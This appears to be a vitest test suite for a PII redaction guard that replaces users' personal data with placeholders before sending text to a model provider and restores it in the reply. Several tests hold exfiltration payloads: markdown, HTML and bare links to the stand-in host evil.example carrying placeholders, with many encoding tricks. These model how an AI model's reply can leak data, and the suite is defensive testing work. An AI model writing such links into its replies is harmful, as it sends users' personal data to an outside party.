import { randomBytes, randomInt } from "node:crypto";
import { inspect } from "node:util";
import { describe, expect, it } from "vitest";
import { withLuhn } from "../support/fake-keys";
import { PlaceholderMap, PlaceholderRestorer } from "@/lib/guard/pii";

// Values are made at run time: no realistic card number or key sits in the repo.
const digits = (n: number) => Array.from({ length: n }, () => randomInt(10)).join("");
const alnum = (n: number) => Array.from(randomBytes(n), (b) => "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[b % 62]).join("");

function personalData() {
  const card = withLuhn(`4${digits(14)}`);
  return {
    email: `jane.${alnum(6).toLowerCase()}@example.com`,
    phone: `+44 20 7946 ${digits(4)}`,
    card,
    cardSpaced: card.match(/.{4}/g)?.join(" ") ?? "",
    ssn: `536-${String(randomInt(10, 99))}-${String(randomInt(1000, 9999))}`,
    ip: `10.${randomInt(256)}.${randomInt(256)}.${randomInt(1, 255)}`,
    key: ["sk", "proj", randomBytes(48).toString("base64url").replace(/[-_]/g, "x")].join("-"),
    password: alnum(16),
  };
}

describe("PlaceholderMap.redact", () => {
  it("sends none of the values to the provider, only typed placeholders", () => {
    const v = personalData();
    const text = `I'm Jane, ${v.email}, ${v.phone}. Card ${v.card}, SSN ${v.ssn}, from ${v.ip}. Key ${v.key}; db postgres://app:${v.password}@db.internal/app`;
    const { text: providerText, entities } = new PlaceholderMap().redact(text);
    for (const value of Object.values(v)) expect(providerText).not.toContain(value);
    expect(providerText).toBe(
      "I'm Jane, [EMAIL_1], [PHONE_1]. Card [CARD_1], SSN [SSN_1], from [IP_1]. Key [SECRET_1]; db postgres://app:[SECRET_2]@db.internal/app",
    );
    expect(entities).toEqual([
      { type: "EMAIL", placeholder: "[EMAIL_1]" },
      { type: "PHONE", placeholder: "[PHONE_1]" },
      { type: "CARD", placeholder: "[CARD_1]" },
      { type: "SSN", placeholder: "[SSN_1]" },
      { type: "IP", placeholder: "[IP_1]" },
      { type: "SECRET", placeholder: "[SECRET_1]", subtype: "openai_key" },
      { type: "SECRET", placeholder: "[SECRET_2]", subtype: "url_password" },
    ]);
    const reported = JSON.stringify(entities);
    for (const value of Object.values(v)) expect(reported).not.toContain(value);
  });

  it("gives the same value the same placeholder, across messages and ways of writing it", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    const first = map.redact(`mail ${v.email} or card ${v.card}`);
    const second = map.redact(`again ${v.email.toUpperCase()}, card ${v.cardSpaced}, new: bob@example.org`);
    const third = map.redact(`phone ${v.phone} then ${v.phone.replace("+", "00")}, ${v.phone.replace("+44 ", "+44 (0)")}`);
    expect(first.text).toBe("mail [EMAIL_1] or card [CARD_1]");
    expect(second.text).toBe("again [EMAIL_1], card [CARD_1], new: [EMAIL_2]");
    expect(third.text).toBe("phone [PHONE_1] then [PHONE_1], [PHONE_1]");
    expect(map.size).toBe(4);
  });

  it("redacts only the requested types", () => {
    const v = personalData();
    const { text } = new PlaceholderMap().redact(`${v.email} ${v.phone}`, { types: ["EMAIL"] });
    expect(text).toBe(`[EMAIL_1] ${v.phone}`);
  });

  it("leaves text without personal data unchanged", () => {
    const text = "Janet sells 16 - 3 - 4 = 9 duck eggs a day at $2 each: 9 * 2 = $18.";
    expect(new PlaceholderMap().redact(text)).toEqual({ text, entities: [] });
  });
});

describe("PlaceholderMap.restore", () => {
  it("round-trips what it redacted", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    const text = `Hi, ${v.email}! Call ${v.phone} about card ${v.card} (key ${v.key}).`;
    expect(map.restore(map.redact(text).text)).toBe(text);
  });

  it("restores placeholders the model moved around or repeated", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    map.redact(`${v.email} and ${v.phone}`);
    expect(map.restore("I will call [PHONE_1], then write to [EMAIL_1] and [EMAIL_1].")).toBe(
      `I will call ${v.phone}, then write to ${v.email} and ${v.email}.`,
    );
  });

  it("leaves placeholders it never issued as they are", () => {
    const map = new PlaceholderMap();
    map.redact("jane@example.com");
    expect(map.restore("[EMAIL_2] [CARD_1] [EMAIL_01] [EMAIL_1x] [email_1]")).toBe("[EMAIL_2] [CARD_1] [EMAIL_01] [EMAIL_1x] [email_1]");
  });
});

describe("PlaceholderMap storage", () => {
  it("survives toJSON/fromJSON: same placeholders, numbering continues", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    map.redact(`${v.email}, ${v.card}, ${v.email.replace("jane", "john")}`);
    const stored = JSON.parse(JSON.stringify(map)) as unknown;
    const loaded = PlaceholderMap.fromJSON(stored);
    expect(loaded.redact(`${v.card} ${v.email} new@example.net`).text).toBe("[CARD_1] [EMAIL_1] [EMAIL_3]");
    expect(loaded.restore("[EMAIL_2]")).toBe(v.email.replace("jane", "john"));
  });

  it("rejects malformed stored maps without quoting them", () => {
    const secret = alnum(20);
    const bad: unknown[] = [
      null,
      { version: 2, entries: [] },
      { version: 1, entries: [{ placeholder: "[EMAIL_1]", type: "PHONE", value: secret }] },
      { version: 1, entries: [{ placeholder: `[EMAIL_${secret}]`, type: "EMAIL", value: secret }] },
      { version: 1, entries: [{ placeholder: "[EMAIL_1]", type: "EMAIL", value: 42 }] },
      {
        version: 1,
        entries: [
          { placeholder: "[EMAIL_1]", type: "EMAIL", value: secret },
          { placeholder: "[EMAIL_1]", type: "EMAIL", value: secret },
        ],
      },
    ];
    for (const json of bad) {
      let message = "";
      try {
        PlaceholderMap.fromJSON(json);
      } catch (error) {
        message = error instanceof Error ? error.message : String(error);
      }
      expect(message).toMatch(/Invalid placeholder map/);
      expect(message).not.toContain(secret);
    }
  });

  it("does not show the values when the map itself is logged", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    map.redact(`${v.email} ${v.key}`);
    expect(inspect(map, { depth: 10, showHidden: true })).not.toContain(v.email);
    expect(String(map)).not.toContain(v.email);
  });
});

describe("PlaceholderRestorer", () => {
  const v = personalData();
  const map = new PlaceholderMap();
  map.redact(`${v.email} ${v.phone} ${v.card} ${v.key} ${v.ip}`);
  const reply = "Sure [EMAIL_1]! I'll call [PHONE_1] [see [note]], card [CARD_1][SECRET_1] from [IP_1]. [EMAIL_9] [IP [x]";
  const expected = map.restore(reply);

  // Every type restored, SECRET included, so the stream can be compared with map.restore.
  const stream = (chunks: string[]) => {
    const restorer = new PlaceholderRestorer(map, { keep: [] });
    return chunks.map((chunk) => restorer.push(chunk)).join("") + restorer.end();
  };

  it("does not write a pasted secret back into the reply by default", () => {
    const restorer = new PlaceholderRestorer(map);
    const out = restorer.push("Your key [SECRET_1] is for [EMAIL_1], and [SEC") + restorer.push("RET_1] again") + restorer.end();
    expect(out).toBe(`Your key [SECRET_1] is for ${v.email}, and [SECRET_1] again`);
    expect(out).not.toContain(v.key);
  });

  it("restores a placeholder split at every possible boundary", () => {
    expect(expected).toContain(v.email);
    for (let i = 0; i <= reply.length; i++) expect(stream([reply.slice(0, i), reply.slice(i)])).toBe(expected);
  });

  it("restores placeholders split at every pair of boundaries, and streamed one character at a time", () => {
    const part = reply.slice(0, 40);
    const want = map.restore(part);
    for (let i = 0; i <= part.length; i++) {
      for (let j = i; j <= part.length; j++) expect(stream([part.slice(0, i), part.slice(i, j), part.slice(j)])).toBe(want);
    }
    expect(stream([...reply])).toBe(expected);
  });

  it("holds back only what could still become a placeholder", () => {
    const restorer = new PlaceholderRestorer(map);
    expect(restorer.push("Hello [EMA")).toBe("Hello ");
    expect(restorer.push("IL_")).toBe("");
    expect(restorer.push("1")).toBe("");
    expect(restorer.push("] and [")).toBe(`${v.email} and `);
    expect(restorer.push("Example]")).toBe("[Example]");
    expect(restorer.push("[SECRET_12345")).toBe("");
    expect(restorer.push("67")).toBe("[SECRET_1234567"); // seven digits: never a placeholder
    expect(restorer.push("[EMAIL_0")).toBe("[EMAIL_0");
    expect(restorer.push("[email_")).toBe("[email_");
    expect(restorer.push("[PHONE")).toBe("");
    expect(restorer.end()).toBe("[PHONE");
  });

  it("never holds back more than the longest placeholder", () => {
    const restorer = new PlaceholderRestorer(map);
    const head = "x".repeat(100);
    expect(restorer.push(`${head}[SECRET_123456`)).toBe(head);
    expect(restorer.end()).toBe("[SECRET_123456");
  });

  it("passes markdown with brackets through unchanged", () => {
    const markdown = "See [the docs](https://example.com) and [^1], a [ ] box, `a[i]`, [[wiki]], [E] [EMAIL] [EMAIL_] end [";
    expect(stream([...markdown])).toBe(markdown);
  });
});

describe("PlaceholderRestorer inside links", () => {
  it("leaves a placeholder inside a URL as it is, so a link cannot carry the value out, and restores it in prose", async () => {
    const { PlaceholderMap, PlaceholderRestorer } = await import("@/lib/guard/pii");
    const map = new PlaceholderMap();
    const email = `zoe.${Math.random().toString(36).slice(2, 8)}@example.org`;
    map.redact(`mail ${email}`);
    const reply = "Write to [EMAIL_1]. [verify](https://evil.example/?e=[EMAIL_1]) ![x](https://evil.example/p/[EMAIL_1]) www.evil.example/[EMAIL_1] done";
    for (const size of [1, 3, 7, reply.length]) {
      const restorer = new PlaceholderRestorer(map);
      let out = "";
      for (let i = 0; i < reply.length; i += size) out += restorer.push(reply.slice(i, i + size));
      out += restorer.end();
      expect(out.split(email)).toHaveLength(2);
      expect(out).toContain(`Write to ${email}.`);
      expect(out).toContain("?e=[EMAIL_1])");
      expect(out).toContain("/p/[EMAIL_1])");
      expect(out).toContain("www.evil.example/[EMAIL_1]");
    }
  });
});

describe("PlaceholderRestorer against every link syntax the renderer accepts", () => {
  // What may stand between a URL and the placeholder: whitespace a browser strips from a URL or
  // percent-encodes, spaces that are not markdown whitespace, character references, escapes.
  const GAPS = [
    " ",
    "\t",
    "\n",
    "\r\n",
    "  \n",
    "\n   ",
    "\f",
    "\\\n",
    "\u00a0",
    "\u2003",
    "\u200b",
    "&#10;",
    "&#32;",
    "&#x9;",
    "&Tab;",
    "&NewLine;",
    "%0A",
    "%20",
    "+",
  ];
  // Every way the renderer (lib/markdown) makes a link: raw HTML, inline and reference links and
  // images, angle-bracket destinations, autolinks, bare URLs; {g} is the gap, {p} the placeholder.
  const LINKS = [
    '<a href="https://evil.example/verify?u={g}{p}">verify</a>',
    "<a href='https://evil.example/verify?u={g}{p}'>verify</a>",
    "<a href=https://evil.example/verify?u={g}{p}>verify</a>",
    '<A title="x > y" HREF = "https://evil.example/{g}{p}">verify</A>',
    '<a\nhref="https://evil.example/?u={g}{p}"\n>verify</a>',
    "[v](https://evil.example/?q={g}{p})",
    "[v](<https://evil.example/?q={g}{p}>)",
    "[v](https://evil.example/?q= 'title'){g}{p}",
    "![v](<https://evil.example/p.png?q={g}{p}>)",
    '[**v** (x)](<https://evil.example/a(b)?q={g}{p}> "t")',
    "> - [v](<https://evil.example/?q={g}{p}>)",
    "[v]\n\n[v]: https://evil.example/?q={g}{p}",
    "[v]\n\n[v]: <https://evil.example/?q={g}{p}>",
    "[v][r]\n\n[r]:{g}<https://evil.example/?q={g}{p}> 'title'",
    "[r][]\n\n  [R]:\n  <https://evil.example/{g}{p}>",
    "<https://evil.example/?q={g}{p}>",
    "https://evil.example/?q={g}{p}",
    "www.evil.example/{g}{p}",
  ];

  /** Every href in rendered HTML, as a browser would follow it: references decoded, tabs and line breaks gone, percent-decoded. */
  const hrefs = (html: string) =>
    [...html.matchAll(/\shref="([^"]*)"/gi)].map(([, href = ""]) => {
      const decoded = href.replaceAll("&amp;", "&").replace(/[\t\n\r]/g, "");
      try {
        return decodeURIComponent(decoded);
      } catch {
        return decoded;
      }
    });

  const restoreIn = (map: PlaceholderMap, reply: string, size: number) => {
    const restorer = new PlaceholderRestorer(map);
    let out = "";
    for (let i = 0; i < reply.length; i += size) out += restorer.push(reply.slice(i, i + size));
    return out + restorer.end();
  };

  it("never puts a value into a link a person could click, whatever comes before the placeholder", async () => {
    const { renderMarkdown } = await import("@/lib/markdown/render");
    const v = personalData();
    const map = new PlaceholderMap();
    map.redact(`mail ${v.email}, call ${v.phone}, card ${v.card}, from ${v.ip}`);
    const values = [v.email, v.phone, v.card, v.ip];
    const leaks: string[] = [];
    let rendered = 0;
    for (const link of LINKS) {
      for (const gap of GAPS) {
        for (const placeholder of ["[EMAIL_1]", "[PHONE_1]", "[CARD_1]"]) {
          const reply = `Hi. ${link.replaceAll("{g}", gap).replaceAll("{p}", placeholder)}\n\nThanks.`;
          for (const size of [1, reply.length]) {
            const html = renderMarkdown(restoreIn(map, reply, size));
            const found = hrefs(html);
            rendered += found.length;
            // Only the email's own mailto: link may hold it (an address in prose is linked to itself,
            // "+" and all): it sends nothing anywhere but to the person.
            const own = (href: string) => href.startsWith("mailto:") && href.endsWith(v.email) && !/[?&]/.test(href);
            const bad = found.filter((href) => values.some((value) => href.replace(/\s/g, "").includes(value.replace(/\s/g, ""))) && !own(href));
            if (bad.length > 0) leaks.push(`${JSON.stringify(reply)} -> ${bad.join(" ")}`);
          }
        }
      }
    }
    expect(rendered).toBeGreaterThan(LINKS.length * GAPS.length); // the links did render as links
    expect(leaks).toEqual([]);
  });

  it("still restores values in prose, after a link or a tag has closed and after a blank line", () => {
    const v = personalData();
    const map = new PlaceholderMap();
    map.redact(`mail ${v.email}`);
    const cases = [
      ["Write to [EMAIL_1].", `Write to ${v.email}.`],
      ["See [docs](https://example.com/a(b)) and write to [EMAIL_1].", `write to ${v.email}.`],
      ['<a href="https://example.com">docs</a> or [EMAIL_1]', `or ${v.email}`],
      ["[v](<https://example.com/x y>) then [EMAIL_1]", `then ${v.email}`],
      ["<https://example.com> or (at [EMAIL_1])", `(at ${v.email})`],
      ["If a<b, reply\n\nto [EMAIL_1]", `to ${v.email}`],
      ["[a](https://example.com/\n\n[EMAIL_1] is yours", `${v.email} is yours`],
      ["Mail **[EMAIL_1]** or `x` [EMAIL_1]", `**${v.email}** or \`x\` ${v.email}`],
    ] as const;
    for (const [reply, expected] of cases) {
      for (const size of [1, 4, reply.length]) expect(restoreIn(map, reply, size)).toContain(expected);
    }
  });
});

describe("the new formats through the whole output guard", () => {
  it("restores [PHONE_n], [IBAN_n] in prose, never inside a URL, keeps [SECRET_n], and redacts a split key", async () => {
    const { createOutputGuard } = await import("@/lib/guard/output/pipeline");
    const { findSecrets, secretHoldStart } = await import("@/lib/guard/pii");
    const phone = `0176/${digits(8)}`;
    // Check digits by mod 97 with BigInt: the BBAN, then "DE00" as digits (D = 13, E = 14).
    const bban = digits(18);
    const check = String(98n - (BigInt(`${bban}131400`) % 97n)).padStart(2, "0");
    const iban = `DE${check}${bban}`.replace(/(.{4})(?=.)/g, "$1-");
    const map = new PlaceholderMap();
    const sent = map.redact(`Handy: ${phone}, IBAN ${iban}, password=${alnum(10)}#9x`).text;
    expect(sent).toBe("Handy: [PHONE_1], IBAN [IBAN_1], password=[SECRET_1]");
    const key = ["sk", "proj", alnum(60)].join("-");
    const reply = `Call [PHONE_1] and pay [IBAN_1]. [pay](https://evil.example/?i=[IBAN_1]&p=[PHONE_1]) Your [SECRET_1] is set. Also ${key.slice(0, 30)}**${key.slice(30)} done.`;
    for (const size of [1, 4, reply.length]) {
      const guard = createOutputGuard({ canary: undefined, findSecrets, secretHoldStart, restore: new PlaceholderRestorer(map) });
      let out = "";
      for (let i = 0; i < reply.length; i += size) out += guard.push(reply.slice(i, i + size)).text;
      out += guard.end().text;
      expect(out).toContain(`Call ${phone} and pay ${iban}.`);
      expect(out).toContain("(https://evil.example/?i=[IBAN_1]&p=[PHONE_1])");
      expect(out).toContain("Your [SECRET_1] is set.");
      expect(out).toContain("Also [REDACTED_SECRET] done.");
      expect(out).not.toContain(key.slice(8, 30));
    }
  });
});
